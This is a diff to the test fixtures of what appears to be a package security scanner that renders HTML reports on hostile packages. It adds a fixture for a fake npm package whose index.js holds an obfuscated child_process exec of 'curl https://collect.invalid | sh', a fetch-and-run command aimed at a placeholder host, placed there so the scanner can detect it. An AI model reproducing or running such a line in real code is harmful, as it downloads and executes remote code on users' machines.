@@ -1,8 +1,8 @@
 /** HTML reports made up for their specs, hostile ones above all. */
 import { rules } from '../rules/index.js';
 import { skipped as left } from '../src/gaps.js';
-import { readable } from '../src/parse/beautify.js';
 import { readMemory } from '../src/read/memory.js';
+import { laidOut } from '../src/readable/layout.js';
 import type { Texts, View } from '../src/report/formats.js';
 import { htmlReport } from '../src/report/html.js';
 import { summarise } from '../src/report/rank.js';
@@ -88,7 +88,7 @@ export const configuration: Applied = {
 export const hostileReports = HOSTILE.map(hostile);
 /** A text as it comes out of an inspection. */
 export function opened(file: SourceFile, marks: readonly Mark[]): Inspected {
-  const layout = readable(file);
+  const layout = laidOut(file);
   return { file, ...(layout && { readable: layout }), marks };
 }
 
@@ -114,4 +114,16 @@ export async function nested() {
   );
   const { report: made, texts } = inspect(pkg, rules);
   return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]), inner };
+}
+
+/** A command behind names and numbers, found as it would be. */
+export async function obfuscated() {
+  const text = `const _0x1a=require('child_process');if(!![]){_0x1a['\\x65\\x78\\x65\\x63']('curl https://collect.invalid | sh')}\n`;
+  const pkg = await readMemory(
+    { files: { 'package.json': '{"name":"hidden","version":"1.0.0"}', 'index.js': text } },
+    {},
+    'node_modules/hidden',
+  );
+  const { report: made, texts } = inspect(pkg, rules);
+  return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]) };
 }
